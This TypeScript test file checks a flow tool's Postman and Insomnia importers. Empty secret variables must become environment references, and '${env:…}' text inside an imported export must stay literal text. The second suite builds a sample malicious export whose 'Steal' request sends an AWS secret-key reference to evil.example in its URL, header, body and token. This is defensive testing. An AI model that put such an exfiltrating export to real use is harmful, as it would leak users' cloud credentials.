/**
 * The environment variables an import leaves the user: secrets never as plain
 * values to fill in (the loader would refuse them), every variable the flow
 * reads listed, and `${env:…}` text from the export kept as text.
 */
import { strict as assert } from 'node:assert';
import { ManualClock } from '../../../src/core/clock';
import { loadFlowFile } from '../../../src/core/flow/load';
import { FlowRunner } from '../../../src/core/flow/runner';
import { findSecretRefs } from '../../../src/core/flow/secret-ref';
import { importAny, importPostman, VARIABLES_HEADING } from '../../../src/core/importers';
import type { ImportResult } from '../../../src/core/importers';
import { FakeHttp } from '../../support/fake-http';
import { assertLoads, fixture, insomniaRequest, insomniaV4, postman } from './helpers';

/** The YAML with every empty environment value filled in, as a person following the advice would. */
function fillEmpty(result: ImportResult): string {
  return result.yaml.replace(/^(\s+[A-Za-z0-9_-]+): ""$/gm, '$1: "a-value-filled-in"');
}

const SECRET_NAMED = postman({
  variable: [
    { key: 'baseUrl', value: '' },
    { key: 'password', value: '' },
    { key: 'refreshToken', value: '' },
    { key: 'accessToken', value: '' },
    { key: 'apikey', value: '' },
    { key: 'clientSecret', value: '' },
    { key: 'tenant', value: '' },
  ],
  item: [
    {
      name: 'Orders',
      request: {
        method: 'GET',
        url: '{{baseUrl}}/orders?tenant={{tenant}}',
        auth: { type: 'bearer', bearer: [{ key: 'token', value: '{{bearer}}' }] },
      },
    },
  ],
});

describe('import: environment variables', () => {
  it('writes empty secret-named variables as ${env:NAME} references and lists them, not as values to fill in', () => {
    const result = importPostman(SECRET_NAMED, { fileName: 'export.json' });
    assertLoads(result);
    assert.deepEqual(result.file.environments?.collection, {
      baseUrl: '',
      password: '${env:PASSWORD}',
      refreshToken: '${env:REFRESH_TOKEN}',
      accessToken: '${env:ACCESS_TOKEN}',
      apikey: '${env:APIKEY}',
      clientSecret: '${env:CLIENT_SECRET}',
      tenant: '',
      // Not secret-named, but the step sends it as a token: filling it in would be refused too.
      bearer: '${env:BEARER}',
    });
    assert.deepEqual(
      result.secrets.map((s) => s.name),
      ['PASSWORD', 'REFRESH_TOKEN', 'ACCESS_TOKEN', 'APIKEY', 'CLIENT_SECRET', 'BEARER'],
    );
    const fillIn = result.notCarried.filter((n) => /fill it in|check it/.test(n.reason)).map((n) => n.item);
    assert.deepEqual(fillIn, [], 'no secret is advised to be filled in');
  });

  for (const name of ['insomnia-v4-okta-kong.json', 'insomnia-v5-okta-kong.yaml', 'postman-v21-okta-kong.json']) {
    it(`${name}: every empty value, once filled in as advised, still loads`, () => {
      const result = importAny(fixture(name), { fileName: name });
      loadFlowFile(fillEmpty(result), { fileName: 'filled.yaml' });
    });
  }

  it('filling in the secret-named example as advised loads', () => {
    const result = importPostman(SECRET_NAMED, { fileName: 'export.json' });
    assert.notEqual(fillEmpty(result), result.yaml, 'something is left to fill in');
    loadFlowFile(fillEmpty(result), { fileName: 'filled.yaml' });
  });

  for (const name of ['insomnia-v4-okta-kong.json', 'insomnia-v5-okta-kong.yaml', 'postman-v21-okta-kong.json']) {
    it(`${name}: lists every environment variable the flow reads, and only those`, () => {
      const result = importAny(fixture(name), { fileName: name });
      const read = findSecretRefs(result.file)
        .filter((r) => r.kind === 'env')
        .map((r) => r.name);
      assert.deepEqual([...result.secrets.map((s) => s.name)].sort(), [...new Set(read)].sort());
      assert.ok(read.length > 0);
      for (const secret of result.secrets) assert.match(result.yaml, new RegExp(`^# +${secret.name} `, 'm'));
      // The extension replaces this line with its own (it stores secrets rather than asking for variables).
      assert.ok(result.yaml.includes(`# ${VARIABLES_HEADING}\n`));
    });
  }
});

describe('import: ${env:…} text in an export is text, never a reference', () => {
  const HOSTILE = '${env:AWS_SECRET_ACCESS_KEY}';
  const VALUE = 'wJalrXUtnFEMI-K7MDENG-never-sent';
  const text = postman({
    variable: [
      { key: 'baseUrl', value: 'https://evil.example' },
      { key: 'note', value: `x${HOSTILE}` },
    ],
    item: [
      {
        name: `Steal ${HOSTILE}`,
        request: {
          method: 'POST',
          url: `{{baseUrl}}/collect?k=${HOSTILE}&n={{note}}`,
          header: [{ key: 'X-Key', value: HOSTILE }],
          body: { mode: 'raw', raw: JSON.stringify({ k: HOSTILE }), options: { raw: { language: 'json' } } },
          auth: { type: 'bearer', bearer: [{ key: 'token', value: HOSTILE }] },
        },
      },
      {
        name: 'Form',
        request: {
          method: 'POST',
          url: 'https://evil.example/form',
          body: { mode: 'urlencoded', urlencoded: [{ key: 'password', value: HOSTILE }] },
        },
      },
    ],
  });

  it('does not list the variable, keeps the text, and a run never reads it', async () => {
    const result = importPostman(text, { fileName: 'evil.json' });
    assertLoads(result);
    assert.ok(!result.secrets.some((s) => s.name === 'AWS_SECRET_ACCESS_KEY'), JSON.stringify(result.secrets));
    assert.ok(!findSecretRefs(result.file).some((r) => r.name === 'AWS_SECRET_ACCESS_KEY'));
    assert.match(result.yaml, /\\\$\{env:AWS_SECRET_ACCESS_KEY\}/);

    const { file } = loadFlowFile(result.yaml, { fileName: 'imported.yaml' });
    const http = new FakeHttp().on(/^https:\/\/evil\.example\//, { body: {} });
    const env: Record<string, string> = { AWS_SECRET_ACCESS_KEY: VALUE };
    for (const s of result.secrets) env[s.name] = 'filled-by-the-user';
    const run = await new FlowRunner(file, { http, clock: new ManualClock(0), secrets: { env } }).run({
      flow: Object.keys(file.flows!)[0]!,
    });
    assert.equal(http.requests.length, 2, JSON.stringify(run.steps.map((s) => s.error)));
    const sent = JSON.stringify(http.requests);
    assert.ok(!sent.includes(VALUE), 'the variable was read and sent');
    assert.ok(sent.includes('env:AWS_SECRET_ACCESS_KEY'), 'the text is sent as written');
    assert.ok(!JSON.stringify(run).includes(VALUE));
  });

  it('Insomnia: in environments, URLs and headers alike', () => {
    const result = importAny(
      insomniaV4([
        {
          _id: 'env_1',
          _type: 'environment',
          parentId: 'wrk_1',
          name: 'Base',
          data: { host: 'https://evil.example', k: HOSTILE },
        },
        insomniaRequest('req_1', {
          name: 'Send',
          url: `{{ _.host }}/a?x=${HOSTILE}`,
          headers: [{ name: 'X-A', value: `{{ _.k }}` }],
        }),
      ]),
      { fileName: 'evil.json' },
    );
    assertLoads(result);
    assert.deepEqual(findSecretRefs(result.file), []);
    assert.deepEqual(result.secrets, []);
  });
});
